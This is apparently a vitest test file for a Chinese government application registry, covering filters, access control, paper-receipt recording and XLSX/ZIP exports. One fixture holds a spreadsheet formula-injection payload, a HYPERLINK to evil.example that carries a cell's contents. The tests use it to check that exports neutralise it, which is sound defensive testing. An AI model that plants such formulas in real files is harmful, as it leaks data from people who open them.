// 申报项目库 and 纸质材料签收 (issue 13), through the API on both databases: the organizer's list of
// every forwarded application with its filters, the workbook and the ZIP; paper copies received
// by code (current, superseded, not forwarded, unknown), late and mismatched; nobody else sees any.
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readFirstSheet, XLSX_MIME } from '../../lib/xlsx';
import {
  countRows,
  createTestApp,
  query,
  signedIn,
  userIdOf,
  type Client,
  type TestApp,
} from '../../../test/harness';
import { batchUrl, filed, newCampaign, recommend, uploadScan } from '../../../test/fixtures/desk';
import { forwardedWorld, reviewFiling, type ForwardedWorld } from '../../../test/fixtures/review';
import { cellsHolding } from '../../../test/fixtures/xlsx-injection';

let t: TestApp;
let w: ForwardedWorld;
let expert: Client;
/** a second call: one application of 北京市 returned, resubmitted (version 2), then forwarded */
let c2: string;
let resubmitted: string;
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")';

interface Row {
  id: string;
  solutionName: string;
  unitName: string;
  rank: number | null;
  [k: string]: unknown;
}

const registry = (campaignId: string, query = '') =>
  w.org.get(`/api/v1/campaigns/${campaignId}/registry${query ? `?${query}` : ''}`);
const ids = async (query: string, campaignId = w.campaignId) => {
  const res = await registry(campaignId, query);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return (res.body.items as Row[]).map((r) => r.id);
};
const receive = (body: Record<string, unknown>, campaignId = w.campaignId, org = w.org) =>
  org.post(`/api/v1/campaigns/${campaignId}/paper-receipts`, body);

async function codeOf(applicationId: string, versionNo?: number): Promise<string> {
  const detail = await w.org.get(`/api/v1/applications/${applicationId}`);
  const versions = detail.body.versions as { versionNo: number; verificationCode: string }[];
  return versions.find((v) => v.versionNo === (versionNo ?? versions[0]!.versionNo))!
    .verificationCode;
}

beforeAll(async () => {
  t = await createTestApp({ config: { signInRatePerMinute: 10_000 } });
  w = await forwardedWorld(t, 9300, 3);
  expert = await signedIn(t.app, 'expert');

  c2 = (await newCampaign(w.org)).id;
  resubmitted = await filed(w.bjEnterprise, c2, reviewFiling(w.bjUscc, 7, { name: FORMULA_NAME }));
  const returned = await w.beijing.post(`/api/v1/applications/${resubmitted}/return`, {
    comment: '请补充应用成效数据',
  });
  expect(returned.status, JSON.stringify(returned.body)).toBe(200);
  const draft = (await w.bjEnterprise.get(`/api/v1/applications/${resubmitted}`)).body;
  const again = await w.bjEnterprise.post(`/api/v1/applications/${resubmitted}/submit`, {
    draftVersion: draft.application.draftVersion,
  });
  expect(again.status, JSON.stringify(again.body)).toBe(200);
  expect(again.body.versionNo).toBe(2);
  expect((await recommend(w.beijing, resubmitted, 1)).status).toBe(200);
  await uploadScan(w.beijing, c2, w.beijingUnit);
  const signed = await w.beijing.post(`${batchUrl(c2, w.beijingUnit)}/sign-off`, {});
  expect(signed.status, JSON.stringify(signed.body)).toBe(200);
});
afterAll(() => t.close());

describe('申报项目库', () => {
  test('lists every forwarded application of the call across units, in unit and rank order', async () => {
    const res = await registry(w.campaignId);
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ total: 6, page: 1, pageSize: 50 });
    const items = res.body.items as Row[];
    expect(items.map((r) => r.id)).toEqual([...w.bjForwarded, ...w.shForwarded]);
    expect(items.map((r) => r.id)).not.toContain(w.bjNotForwarded);
    expect(items[0]).toEqual({
      id: w.bjForwarded[0],
      solutionName: '高炉炉况智能诊断工业APP',
      category: 'secure_reliable',
      categoryLabel: expect.stringContaining('安全可靠'),
      applicantName: '测试企业9300号科技有限公司',
      uscc: w.bjUscc,
      region: '110100',
      regionName: '北京市',
      unitId: w.beijingUnit,
      unitName: '北京市',
      rank: 1,
      state: 'forwarded',
      currentVersionNo: 1,
      submittedAt: expect.any(String),
      duplicates: 'none',
      paper: { received: false, late: false, mismatch: false, receivedOn: null, copies: 0 },
      formalCheck: null,
    });
    expect(items[3]).toMatchObject({ unitName: '上海市', rank: 1, regionName: '上海市' });
  });

  test('filters by unit, category, province, industry, state, search; pages and sorts', async () => {
    expect(await ids(`unitId=${w.shanghaiUnit}`)).toEqual(w.shForwarded);
    expect(await ids('category=secure_reliable')).toEqual([w.bjForwarded[0], w.shForwarded[0]]);
    expect(await ids('province=310000')).toEqual(w.shForwarded);
    expect(await ids('province=110000')).toEqual(w.bjForwarded);
    // the sample's industry is 3451 (门类 C, 大类 34)
    expect(await ids('industry=C')).toHaveLength(6);
    expect(await ids('industry=C34')).toHaveLength(6);
    expect(await ids('industry=345')).toHaveLength(6);
    expect(await ids('industry=A')).toEqual([]);
    expect(await ids('industry=01')).toEqual([]);
    expect(await ids('state=under_review')).toEqual([]);
    expect(await ids('state=forwarded')).toHaveLength(6);
    expect(await ids(`q=${encodeURIComponent('风电齿轮箱')}`)).toEqual([w.bjForwarded[2]]);
    expect(await ids(`q=${w.shUscc.toLowerCase()}`)).toEqual(w.shForwarded);
    expect(await ids(`q=${encodeURIComponent('测试企业930')}`)).toHaveLength(6);
    expect(await ids(`q=${encodeURIComponent('%')}`)).toEqual([]);

    const page2 = await registry(w.campaignId, 'pageSize=4&page=2');
    expect(page2.body).toMatchObject({ total: 6, page: 2, pageSize: 4 });
    expect((page2.body.items as Row[]).map((r) => r.id)).toEqual(w.shForwarded.slice(1));

    const byName = (await registry(w.campaignId, 'sort=name')).body.items as Row[];
    const names = byName.map((r) => r.solutionName);
    expect(names).toEqual([...names].sort());
    const newest = (await registry(w.campaignId, 'sort=submittedAt&order=desc')).body
      .items as (Row & { submittedAt: string })[];
    const times = newest.map((r) => Date.parse(r.submittedAt));
    expect(times).toEqual([...times].sort((a, b) => b - a));

    for (const bad of ['province=11', 'industry=Z9', 'state=draft', 'paper=maybe', 'pageSize=500'])
      expect((await registry(w.campaignId, bad)).status, bad).toBe(400);
  });

  test('filters by 疑似重复 and 形式审查, read from findings and formal checks', async () => {
    const [a, b, c] = w.shForwarded as [string, string, string];
    const orgId = await userIdOf(t, 'organizer');
    const finding = (app: string, match: string, state: string) =>
      query(
        t,
        `insert into duplicate_findings (campaign_id, application_id, kind, match_application_id, score,
           reasons, signals, evidence, application_text_hash, state, created_at, updated_at)
         values ('${w.campaignId}', '${app}', 'application', '${match}', 0.9, '[]', '{}', '[]', 'x',
           '${state}', now(), now())`,
      );
    await finding(a, b, 'confirmed');
    await finding(a, c, 'open');
    await finding(b, c, 'open');
    await finding(c, a, 'dismissed');
    expect(await ids('duplicates=confirmed')).toEqual([a]);
    expect(await ids('duplicates=open')).toEqual([b]);
    expect(await ids('duplicates=none')).toEqual([...w.bjForwarded, c]);
    const rows = (await registry(w.campaignId, `unitId=${w.shanghaiUnit}`)).body.items as Row[];
    expect(rows.map((r) => r.duplicates)).toEqual(['confirmed', 'open', 'none']);

    await query(
      t,
      `insert into formal_checks (application_id, campaign_id, version_no, result, items, checked_by, checked_at)
       values ('${w.bjForwarded[0]}', '${w.campaignId}', 1, 'pass', '[]', '${orgId}', now()),
              ('${w.bjForwarded[1]}', '${w.campaignId}', 1, 'fail', '[]', '${orgId}', now())`,
    );
    expect(await ids('formalCheck=pass')).toEqual([w.bjForwarded[0]]);
    expect(await ids('formalCheck=fail')).toEqual([w.bjForwarded[1]]);
    expect(await ids('formalCheck=none')).toEqual([w.bjForwarded[2], ...w.shForwarded]);
    const first = (await registry(w.campaignId)).body.items[0] as Row;
    expect(first.formalCheck).toBe('pass');
  });

  test('is the organizer’s alone: recommenders, enterprises and experts are refused', async () => {
    const base = `/api/v1/campaigns/${w.campaignId}`;
    for (const who of [w.beijing, w.shanghai, w.bjEnterprise, expert]) {
      for (const path of [
        `${base}/registry`,
        `${base}/registry?unitId=${w.beijingUnit}`,
        `${base}/registry/export.xlsx`,
        `${base}/registry/export.zip`,
        `${base}/paper-receipts`,
      ]) {
        const res = await who.get(path);
        expect(res.status, path).toBe(403);
        expect(res.body.error.code).toBe('FORBIDDEN');
      }
      const code = await codeOf(w.bjForwarded[0]!);
      const res = await who.post(`${base}/paper-receipts`, { kind: 'application', code });
      expect(res.status).toBe(403);
    }
    expect(await countRows(t, 'paper_receipts')).toBe(0);
  });
});

describe('纸质材料签收', () => {
  test('the current version of a forwarded application: recorded, audited, shown in the registry', async () => {
    const app = w.bjForwarded[0]!;
    const code = await codeOf(app);
    const res = await receive({ kind: 'application', code, postmarkedOn: '2026-10-30' });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({
      message: '已签收：与网上报送的第1版（当前版本）一致',
      copies: 1,
      paperDeadline: '2026-12-31',
      receipt: {
        kind: 'application',
        status: 'current',
        code,
        applicationId: app,
        versionNo: 1,
        currentVersionNo: 1,
        applicationState: 'forwarded',
        solutionName: '高炉炉况智能诊断工业APP',
        applicantName: '测试企业9300号科技有限公司',
        unitId: w.beijingUnit,
        unitName: '北京市',
        receivedOn: '2026-11-01',
        postmarkedOn: '2026-10-30',
        late: false,
        note: '',
        receivedByName: expect.any(String),
      },
    });
    const [audit] = await query<{ target_type: string; target_id: string; summary: any }>(
      t,
      `select target_type, target_id, summary from audit_log where action = 'paper.receive' order by id desc limit 1`,
    );
    expect(audit).toMatchObject({
      target_type: 'application',
      target_id: app,
      summary: {
        after: {
          receiptId: res.body.receipt.id,
          verificationCode: code,
          paperStatus: 'current',
          late: false,
        },
      },
    });
    expect(await ids('paper=yes')).toEqual([app]);
    expect(await ids('paper=no')).toHaveLength(5);
    const row = (await registry(w.campaignId)).body.items[0] as Row;
    expect(row.paper).toEqual({
      received: true,
      late: false,
      mismatch: false,
      receivedOn: '2026-11-01',
      copies: 1,
    });
    // the enterprise's history says the paper arrived (the ministry, not a person, received it)
    const history = (await w.bjEnterprise.get(`/api/v1/applications/${app}/history`)).body.items;
    expect(history.at(-1)).toMatchObject({ action: 'paper.receive', actorName: '主管部门' });
  });

  test('the QR code’s address and a code typed loosely are the same code; a second copy is a second row', async () => {
    const app = w.bjForwarded[1]!;
    const code = await codeOf(app);
    const url = `${t.deps.config.publicUrl}/verify?code=${encodeURIComponent(code)}`;
    const first = await receive({ kind: 'application', code: url });
    expect(first.status, JSON.stringify(first.body)).toBe(201);
    expect(first.body.receipt).toMatchObject({ code, status: 'current' });
    const typed = ` ${code.toLowerCase().replace(/-/g, ' ').replace(/0/g, 'o')} `;
    const second = await receive({ kind: 'application', code: typed, note: '第二份' });
    expect(second.status, JSON.stringify(second.body)).toBe(201);
    expect(second.body).toMatchObject({ copies: 2, receipt: { code, note: '第二份' } });
    expect(second.body.message).toMatch(/（已签收2份）$/);
    expect(second.body.receipt.id).not.toBe(first.body.receipt.id);
    const list = await w.org.get(
      `/api/v1/campaigns/${w.campaignId}/paper-receipts?applicationId=${app}`,
    );
    expect(list.body.total).toBe(2);
  });

  test('a superseded version: recorded as mismatched, naming the current version', async () => {
    const old = await codeOf(resubmitted, 1);
    const res = await receive({ kind: 'application', code: old }, c2);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.receipt).toMatchObject({
      status: 'superseded',
      versionNo: 1,
      currentVersionNo: 2,
      applicationId: resubmitted,
    });
    expect(res.body.message).toBe(
      '版本不符：纸质材料为第1版，网上当前为第2版，请联系申报单位寄送当前版本',
    );
    expect(await ids('paper=mismatch', c2)).toEqual([resubmitted]);
    expect(await ids('paper=no', c2)).toEqual([resubmitted]);
    const receipts = await w.org.get(`/api/v1/campaigns/${c2}/paper-receipts?status=superseded`);
    expect(receipts.body.items.map((r: { code: string }) => r.code)).toEqual([old]);

    // then the current one arrives: received, and the old copy still shows as a mismatch
    const current = await receive({ kind: 'application', code: await codeOf(resubmitted, 2) }, c2);
    expect(current.body.receipt).toMatchObject({ status: 'current', versionNo: 2 });
    const [row] = (await registry(c2)).body.items as Row[];
    expect(row!.paper).toMatchObject({ received: true, mismatch: true, copies: 2 });
  });

  test('an application not forwarded: recorded and flagged', async () => {
    const res = await receive({ kind: 'application', code: await codeOf(w.bjNotForwarded) });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.receipt).toMatchObject({
      status: 'not_forwarded',
      applicationState: 'submitted',
      unitName: '北京市',
    });
    expect(res.body.message).toMatch(/^该申报书尚未由推荐单位报送至主管部门/);
    const list = await w.org.get(
      `/api/v1/campaigns/${w.campaignId}/paper-receipts?status=not_forwarded`,
    );
    expect(list.body.items).toHaveLength(1);
  });

  test('an unknown code, a malformed one, one of another call: refused, nothing written', async () => {
    const before = await countRows(t, 'paper_receipts');
    const audits = await countRows(t, 'audit_log');
    const unknown = await receive({ kind: 'application', code: 'ZZZZ-ZZZZ-ZZZZ' });
    expect(unknown.status).toBe(404);
    expect(unknown.body.error).toMatchObject({
      code: 'PAPER_CODE_UNKNOWN',
      message: '未找到验证码 ZZZZ-ZZZZ-ZZZZ 对应的申报书：请核对纸质申报书封面或页脚上的12位验证码',
    });
    const malformed = await receive({ kind: 'application', code: 'ABC-123' });
    expect(malformed.status).toBe(400);
    expect(malformed.body.error.code).toBe('VERIFICATION_CODE_INVALID');
    const otherCall = await receive({ kind: 'application', code: await codeOf(resubmitted) });
    expect(otherCall.status).toBe(404);
    expect(otherCall.body.error.message).toMatch(/属于另一征集活动“推荐台测试活动\d+”的申报书/);
    const empty = await receive({ kind: 'application', code: '' });
    expect(empty.status).toBe(400);
    expect(await countRows(t, 'paper_receipts')).toBe(before);
    expect(await countRows(t, 'audit_log')).toBe(audits);
  });

  test('late: postmarked, or without a postmark received, after the paper deadline’s day', async () => {
    const [code, code1, code2] = await Promise.all(w.shForwarded.map((id) => codeOf(id)));
    t.clock.set('2027-01-05T09:00:00+08:00');
    const org = await signedIn(t.app, 'organizer'); // sessions do not last two months
    const receive = (body: Record<string, unknown>) =>
      org.post(`/api/v1/campaigns/${w.campaignId}/paper-receipts`, body);
    const ids = async (q: string) =>
      ((await org.get(`/api/v1/campaigns/${w.campaignId}/registry?${q}`)).body.items as Row[]).map(
        (r) => r.id,
      );
    try {
      const onTime = await receive({ kind: 'application', code, postmarkedOn: '2026-12-31' });
      expect(onTime.body.receipt).toMatchObject({ receivedOn: '2027-01-05', late: false });
      const late = await receive({
        kind: 'application',
        code: code1,
        postmarkedOn: '2027-01-01',
      });
      expect(late.body.receipt.late).toBe(true);
      expect(late.body.message).toBe(
        '已签收：与网上报送的第1版（当前版本）一致；逾期：晚于纸质材料截止日期（2026-12-31）',
      );
      const noPostmark = await receive({
        kind: 'application',
        code: code2,
        receivedOn: '2027-01-02',
      });
      expect(noPostmark.body.receipt).toMatchObject({ postmarkedOn: null, late: true });
      const backdated = await receive({
        kind: 'application',
        code: code2,
        receivedOn: '2026-12-31',
      });
      expect(backdated.body.receipt.late).toBe(false);

      expect(await ids('paper=late')).toEqual([w.shForwarded[1]]);
      const rows = (
        await org.get(`/api/v1/campaigns/${w.campaignId}/registry?unitId=${w.shanghaiUnit}`)
      ).body.items as Row[];
      expect(rows.map((r) => (r.paper as { late: boolean }).late)).toEqual([false, true, false]);
      expect(rows[2]!.paper).toMatchObject({ receivedOn: '2026-12-31', copies: 2 });
      const lateOnes = await org.get(
        `/api/v1/campaigns/${w.campaignId}/paper-receipts?late=true&unitId=${w.shanghaiUnit}`,
      );
      expect(lateOnes.body.total).toBe(2);

      const future = await receive({ kind: 'application', code, receivedOn: '2027-01-06' });
      expect(future.status).toBe(400);
      expect(future.body.error.message).toBe('收到日期不能晚于今天（2027-01-05）');
      const impossible = await receive({
        kind: 'application',
        code,
        receivedOn: '2027-01-02',
        postmarkedOn: '2027-01-03',
      });
      expect(impossible.status).toBe(400);
      expect(impossible.body.error.message).toBe('邮戳日期不能晚于收到日期');
      const notADay = await receive({ kind: 'application', code, postmarkedOn: '2026-02-30' });
      expect(notADay.status).toBe(400);
    } finally {
      t.clock.set('2026-11-01T09:00:00+08:00');
    }
  });

  test('附件3 carries no code: recorded against the unit, current once its batch is signed off', async () => {
    const received = await ids('paper=yes');
    const signed = await receive({ kind: 'summary_table', unitId: w.shanghaiUnit });
    expect(signed.status, JSON.stringify(signed.body)).toBe(201);
    expect(signed.body.receipt).toMatchObject({
      kind: 'summary_table',
      status: 'current',
      applicationId: null,
      code: null,
      versionNo: null,
      unitName: '上海市',
    });
    const units = (await w.org.get('/api/v1/recommender-units')).body.items as {
      id: string;
      name: string;
    }[];
    const casic = units.find((u) => u.name === '中国航天科工集团有限公司')!.id;
    const open = await receive({ kind: 'summary_table', unitId: casic });
    expect(open.body.receipt.status).toBe('not_forwarded');
    expect(open.body.message).toMatch(/尚未在网上确认报送/);
    const none = await receive({
      kind: 'summary_table',
      unitId: '00000000-0000-4000-8000-000000000000',
    });
    expect(none.status).toBe(404);
    const tables = await w.org.get(
      `/api/v1/campaigns/${w.campaignId}/paper-receipts?kind=summary_table`,
    );
    expect(tables.body.total).toBe(2);
    // a 附件3 is no application's paper 申报书
    expect(await ids('paper=yes')).toEqual(received);
  });

  test('receipts are never changed or removed', async () => {
    await expect(query(t, `update paper_receipts set note = 'x'`)).rejects.toThrow();
    await expect(query(t, `delete from paper_receipts`)).rejects.toThrow();
  });
});

describe('exports', () => {
  test('XLSX: the call’s title, the filters in words, one row per application', async () => {
    const res = await w.org.get(
      `/api/v1/campaigns/${w.campaignId}/registry/export.xlsx?unitId=${w.beijingUnit}&paper=yes`,
    );
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX_MIME);
    expect(res.headers['content-disposition']).toContain(
      encodeURIComponent('申报项目库-2026.xlsx'),
    );
    const sheet = await readFirstSheet(res.raw.rawPayload);
    expect(sheet[0]!.cells[0]).toMatch(/^推荐台测试活动\d+申报项目库$/);
    expect(sheet[1]!.cells[0]).toBe(
      '筛选条件：推荐单位：北京市；纸质材料：已收到（按推荐单位和推荐排序）',
    );
    expect(sheet[2]!.cells[0]).toMatch(
      /^共 2 份，导出时间：\d{4}-\d\d-\d\d \d\d:\d\d（北京时间）$/,
    );
    expect(sheet[3]!.cells).toEqual([
      '序号',
      '推荐单位',
      '推荐排序',
      '解决方案名称',
      '申报类别',
      '申报单位',
      '统一社会信用代码',
      '所在地区',
      '状态',
      '当前版本',
      '提交时间',
      '疑似重复',
      '纸质材料',
      '形式审查',
    ]);
    expect(sheet).toHaveLength(6);
    expect(sheet[4]!.cells).toEqual([
      '1',
      '北京市',
      '1',
      '高炉炉况智能诊断工业APP',
      expect.stringContaining('安全可靠'),
      '测试企业9300号科技有限公司',
      w.bjUscc,
      '北京市',
      '已报送主管部门',
      '第1版',
      expect.stringMatching(/^2026-11-01 \d\d:\d\d$/),
      '无',
      '已收到',
      '合格',
    ]);
    expect(sheet[5]!.cells.slice(12)).toEqual(['已收到', '不合格']);
  });

  test('XLSX: what an applicant typed never runs as a formula', async () => {
    const res = await w.org.get(`/api/v1/campaigns/${c2}/registry/export.xlsx`);
    expect(res.status).toBe(200);
    const cells = await cellsHolding(res.raw.rawPayload, [FORMULA_NAME]);
    expect(cells).toHaveLength(1);
    expect(cells[0]).toMatchObject({ value: FORMULA_NAME, numFmt: '@', quotePrefix: true });
  });

  test('ZIP: one folder per application with its PDF and attachments, the list at the root', async () => {
    const res = await w.org.get(`/api/v1/campaigns/${w.campaignId}/registry/export.zip`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/zip');
    expect(res.headers['content-disposition']).toContain(encodeURIComponent('申报项目库-2026.zip'));
    const files = unzipSync(new Uint8Array(res.raw.rawPayload));
    const names = Object.keys(files);
    expect(names[0]).toBe('申报项目库.xlsx');
    const folders = [...new Set(names.slice(1).map((n) => n.split('/')[0]))];
    expect(folders).toEqual([
      '北京市-01-高炉炉况智能诊断工业APP',
      '北京市-02-注塑工艺参数寻优工业APP',
      '北京市-03-风电齿轮箱预测性维护工业APP',
      '上海市-01-电子元器件来料检验工业APP',
      '上海市-02-家电售后服务派工工业APP',
      '上海市-03-钢板表面质量判级工业APP',
    ]);
    for (const folder of folders) {
      expect(names.filter((n) => n.startsWith(`${folder}/`)).sort()).toEqual([
        `${folder}/申报书-第1版.pdf`,
        `${folder}/软件著作权证书.pdf`,
      ]);
      const pdf = Buffer.from(files[`${folder}/申报书-第1版.pdf`]!);
      expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
      expect(pdf.length).toBeGreaterThan(10_000); // the printed form, not the tiny attachment
      expect(Buffer.from(files[`${folder}/软件著作权证书.pdf`]!).subarray(0, 5).toString()).toBe(
        '%PDF-',
      );
    }
    const list = await readFirstSheet(Buffer.from(files['申报项目库.xlsx']!));
    expect(list).toHaveLength(4 + 6);

    const filtered = await w.org.get(
      `/api/v1/campaigns/${c2}/registry/export.zip?unitId=${w.beijingUnit}`,
    );
    const names2 = Object.keys(unzipSync(new Uint8Array(filtered.raw.rawPayload)));
    // a name is made safe for every file system: no separators, quotes or question marks
    expect(names2).toContain(
      '北京市-01-=HYPERLINK(_http___evil.example___&A1,_点击_)/申报书-第2版.pdf',
    );
  });

  test('ZIP: more than 500 applications are refused with a way out', async () => {
    const c3 = (await newCampaign(w.org)).id;
    await query(
      t,
      `insert into applications (campaign_id, enterprise_id, channel_unit_id, state, form_id, data,
         solution_name, current_version_no, recommend_rank, created_at, updated_at, submitted_at)
       select '${c3}', a.enterprise_id, a.channel_unit_id, 'forwarded', a.form_id, '{}',
         '批量' || g, 1, g, now(), now(), now()
       from applications a, generate_series(1, 501) g where a.id = '${w.bjForwarded[0]}'`,
    );
    const res = await w.org.get(`/api/v1/campaigns/${c3}/registry/export.zip`);
    expect(res.status).toBe(422);
    expect(res.body.error).toMatchObject({
      code: 'EXPORT_TOO_LARGE',
      message:
        '符合条件的申报书共 501 份，超过一次批量下载的上限 500 份：请按推荐单位、申报类别或地区等筛选后分批下载',
      details: { total: 501, max: 500 },
    });
    const listed = await registry(c3, 'pageSize=1');
    expect(listed.body.total).toBe(501);
  });
});
